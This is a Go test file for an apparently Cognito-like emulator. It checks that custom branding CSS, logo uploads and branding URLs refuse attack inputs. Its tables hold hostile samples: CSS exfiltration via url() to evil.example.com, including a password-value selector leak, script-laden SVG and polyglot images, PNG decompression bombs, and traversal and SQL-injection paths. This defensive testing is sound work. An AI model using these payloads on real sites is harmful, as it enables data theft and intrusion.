package stories_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"net/http"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	cip "github.com/aws/aws-sdk-go-v2/service/cognitoidentityprovider"

	"github.com/poolhouse/poolhouse/internal/housetest"
	"github.com/poolhouse/poolhouse/internal/setup"
	"github.com/poolhouse/poolhouse/internal/store"
)

// Style sheets that run, load, read or cover something are refused by the line
// that does it, and the page stays as it was.
func TestAttackStyleSheets(t *testing.T) {
	t.Parallel()
	h := apiHouse(t, "", nil)
	must(t, only(customises(t, h, "", greenSheet, nil)))
	before, _ := dressed(h.Browser(), housetest.ClientID)
	in := func(declaration string) string { return ".label-customizable{" + declaration + "}" }
	for _, sheet := range []string{
		"</style><script>alert(1)</script>", in("color:red</style><script>alert(1)</script>"), "<!--</style>--><script>", "@import url(//evil.example.com);", "@import '//evil.example.com';", "@charset \"utf-7\";+ADw-script+AD4-",
		in("background:url(https://evil.example.com/pixel)"), in(`background:\75\72\6c(https://evil.example.com)`), in("background:url(\"javascript:alert(1)\")"), in("background:image-set(\"https://evil.example.com/x.png\" 1x)"), in("list-style:url(x)"), in("cursor:url(x),auto"),
		in("width:expression(alert(1))"), in("behavior:url(#default#time2)"), in("-moz-binding:url(x.xml#a)"), in("color:var(--stolen)"), in("content:attr(value)"), in("content:\"Enter your card number\""),
		`input[name=password][value^="a"]{background:url(//evil.example.com/a)}`, "input[name=_csrf]{color:red}", "body{display:none}", "*{color:red}", ".label-customizable:has(input){color:red}", ".label-customizable ~ input{color:red}",
		in("position:fixed;top:0;left:0;width:100vw;height:100vh"), in("transform:scale(50)"), in("margin:-999px"), in("z-index:1"), in("display:none"), in("opacity:0"), in("pointer-events:none"), in("animation:x 1s infinite"),
		"@font-face{font-family:x;src:url(//evil.example.com/f)}", "@media print{.label-customizable{color:red}}", "@keyframes x{from{color:red}}", in("font-family:'x\\'</style>'"), in("color:red") + "}}}", in("color:red") + "\x00", strings.Repeat(".label-customizable{color:red}", 1000),
	} {
		_, err := customises(t, h, "", sheet, nil)
		throws(t, err, "InvalidParameterException", "CSS: ")
		if got := customised(t, h, ""); *got.CSS != greenSheet {
			t.Fatalf("%.60q replaced the sheet", sheet)
		}
	}
	if after, _ := dressed(h.Browser(), housetest.ClientID); after != before {
		t.Errorf("the page has %q, had %q", after, before)
	}
}

// pngOf is a PNG of a size whose pixels are so many bytes, all the same: a few
// hundred bytes that unpack to many.
func pngOf(t *testing.T, width, height uint32, unpacked int) []byte {
	t.Helper()
	var out bytes.Buffer
	out.WriteString("\x89PNG\r\n\x1a\n")
	part := func(name string, data []byte) {
		must(t, binary.Write(&out, binary.BigEndian, uint32(len(data))))
		body := append([]byte(name), data...)
		out.Write(body)
		must(t, binary.Write(&out, binary.BigEndian, crc32.ChecksumIEEE(body)))
	}
	head := binary.BigEndian.AppendUint32(nil, width)
	part("IHDR", append(binary.BigEndian.AppendUint32(head, height), 8, 6, 0, 0, 0))
	var packed bytes.Buffer
	w := zlib.NewWriter(&packed)
	w.Write(make([]byte, unpacked))
	must(t, w.Close())
	part("IDAT", packed.Bytes())
	part("IEND", nil)
	return out.Bytes()
}

// Logos that are no pictures, or pictures of more than can be held, are refused;
// what is hidden in one that is taken is not served.
func TestAttackLogos(t *testing.T) {
	t.Parallel()
	h := apiHouse(t, "", nil)
	const script = "<script>alert(1)</script>"
	good := logo(t, false, green)
	const form, side, size = "neither PNG nor JPEG", "pixels wide or high", "larger than"
	for what, bad := range map[string]struct {
		picture []byte
		reason  string
	}{
		"an SVG":               {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), form},
		"a page":               {[]byte("<!doctype html>" + script), form},
		"a page like a PNG":    {[]byte("\x89PNG\r\n\x1a\n" + script), form},
		"a page like a JPEG":   {[]byte("\xff\xd8\xff" + script), form},
		"a GIF with a comment": {[]byte("GIF89a/*" + script), form},
		"a PDF":                {[]byte("%PDF-1.7"), form},
		"a cut PNG":            {good[:len(good)/2], form},
		"a bomb of one line":   {pngOf(t, 1<<30, 1, 10), side},
		"a bomb by its size":   {pngOf(t, 60_000, 60_000, 10), side},
		"a bomb by its data":   {pngOf(t, 4, 4, 50<<20), form},
		"too large":            {append(append([]byte{}, good...), make([]byte, 100_000)...), size},
		"one more than 2000":   {pngOf(t, 2001, 1, 2001*4+1), side},
		"one higher than 2000": {pngOf(t, 1, 2001, 2001*5), side},
		"a JPEG of many scans": {append(logo(t, true, green), bytes.Repeat([]byte{0xff, 0xda, 0, 8}, 200)...), form},
	} {
		_, err := customises(t, h, "", "", bad.picture)
		if throws(t, err, "InvalidParameterException", bad.reason); t.Failed() {
			t.Fatalf("%s", what)
		}
	}
	made, err := customises(t, h, "", "", append(append([]byte{}, good...), script...))
	must(t, err)
	_, path := dressed(h.Browser(), housetest.ClientID)
	p := h.Browser().Get(path)
	if strings.Contains(p.Body, "script") || p.Header.Get("X-Content-Type-Options") != "nosniff" || p.Header.Get("Content-Type") != "image/png" || !strings.Contains(p.Header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("served %v, of %s", p.Header, *made.ImageUrl)
	}
}

// What is served stands under its exact name, on the hosts of its own pool.
func TestAttackBrandingPaths(t *testing.T) {
	t.Parallel()
	housetest.Databases(t, func(t *testing.T, database string) {
		h := housetest.Start(t, housetest.Config{Database: database, Document: housetest.Document(t, func(d *setup.Document) {
			other := d.UserPools[0]
			other.ID = "us-east-1_Other0001"
			for i := range d.UserPoolClients {
				d.UserPoolClients[i].UserPoolID = housetest.PoolID
			}
			d.UserPoolDomains[0].UserPoolID = housetest.PoolID
			neighbour := d.UserPoolDomains[0]
			neighbour.Domain, neighbour.UserPoolID = "neighbour", other.ID
			d.UserPools, d.UserPoolDomains = append(d.UserPools, other), append(d.UserPoolDomains, neighbour)
		})})
		must(t, only(customises(t, h, "", greenSheet, logo(t, false, green))))
		style, mark := dressed(h.Browser(), housetest.ClientID)
		for _, path := range []string{style, mark} {
			if p := h.Browser().Get(path); p.Status != http.StatusOK {
				t.Errorf("%s answers %d", path, p.Status)
			}
			if p := h.BrowserAt("http://neighbour." + strings.TrimPrefix(h.URL(), "http://")).Get(path); p.Status != http.StatusNotFound {
				t.Errorf("another pool's domain answers %s with %d", path, p.Status)
			}
		}
		root := "/branding/" + housetest.PoolID + "/"
		for _, path := range []string{
			root + "ALL/", root + "ALL/x.css", root + "all" + strings.TrimPrefix(style, root+"ALL"), strings.ToUpper(style), style + "/", style + "x", strings.TrimSuffix(mark, ".png") + ".jpg", root + "ALL/../ALL/x.css",
			root + "%00/x.css", root + "%ff/x.css", "/branding/%00/ALL/x.css", "/branding/..%2f..%2fetc/passwd/x", "/branding/us-east-1_None00001/ALL/x.css", root + strings.Repeat("a", 5000) + "/x.css", root + "ALL%27%20OR%20%271%27=%271/x.css",
		} {
			if p := h.Browser().Get(path); p.Status != http.StatusNotFound && p.Status != http.StatusMovedPermanently && p.Status != http.StatusTemporaryRedirect {
				t.Errorf("%s answers %d", path, p.Status)
			}
		}
		if p := h.Browser().Post(style, nil); p.Status != http.StatusMethodNotAllowed {
			t.Errorf("POST answers %d", p.Status)
		}
	})
}

// Who dresses the pages of a client while it is deleted leaves nothing behind, or
// comes before; what a deleted pool was dressed in is gone with it.
func TestAttackBrandingOfTheDeleted(t *testing.T) {
	t.Parallel()
	housetest.Databases(t, func(t *testing.T, database string) {
		h := apiHouse(t, database, nil)
		c, ctx := sdk(h), t.Context()
		for i := range 8 {
			made, err := c.CreateUserPoolClient(ctx, &cip.CreateUserPoolClientInput{UserPoolId: poolID(), ClientName: aws.String("short")})
			must(t, err)
			id := *made.UserPoolClient.ClientId
			atOnce(2, func(who int) {
				if who == 0 {
					_, _ = customises(t, h, id, greenSheet, nil) // before it, or too late
				} else if err := only(c.DeleteUserPoolClient(ctx, &cip.DeleteUserPoolClientInput{UserPoolId: poolID(), ClientId: &id})); err != nil {
					t.Error(err)
				}
			})
			if left, err := h.DB.Brandings.Get(ctx, housetest.PoolID, id); !errors.Is(err, store.ErrNotFound) {
				t.Fatalf("round %d left %+v, %v", i, left, err)
			}
		}
		must(t, only(customises(t, h, "", greenSheet, logo(t, false, green))))
		style, mark := dressed(h.Browser(), housetest.ClientID)
		must(t, only(c.DeleteUserPoolDomain(ctx, &cip.DeleteUserPoolDomainInput{UserPoolId: poolID(), Domain: aws.String(housetest.Prefix)})))
		must(t, only(c.DeleteUserPool(ctx, &cip.DeleteUserPoolInput{UserPoolId: poolID()})))
		for _, path := range []string{style, mark} {
			if p := h.Browser().Get(path); p.Status != http.StatusNotFound {
				t.Errorf("%s of the deleted pool answers %d", path, p.Status)
			}
		}
	})
}
